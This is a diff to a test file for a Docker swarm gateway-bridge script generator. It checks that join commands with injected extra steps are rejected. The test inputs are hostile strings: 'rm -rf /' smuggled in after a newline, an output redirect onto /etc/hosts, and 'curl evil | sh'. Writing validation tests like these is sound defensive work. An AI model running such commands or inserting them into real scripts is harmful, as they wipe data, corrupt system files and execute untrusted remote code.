@@ -61,8 +61,14 @@ docker network create \\
   it("refuses a join command that is not one docker swarm join line", () => {
     const base = { subnet: "10.11.0.0/16", enableIcc: false, enableIpMasquerade: true };
     expect(() => gwbridgeScript({ ...base, joinCommand: "docker swarm join x\nrm -rf /" })).toThrow(
-      "joinCommand must be a single `docker swarm join …` command",
+      "the join command must be one line",
     );
+    expect(() =>
+      gwbridgeScript({
+        ...base,
+        joinCommand: "docker swarm join --token SWMTKN-1-abc-def 10.0.0.1:2377 > /etc/hosts",
+      }),
+    ).toThrow("exactly one manager address");
     expect(() => gwbridgeScript({ ...base, joinCommand: "curl evil | sh" })).toThrow();
   });
 });
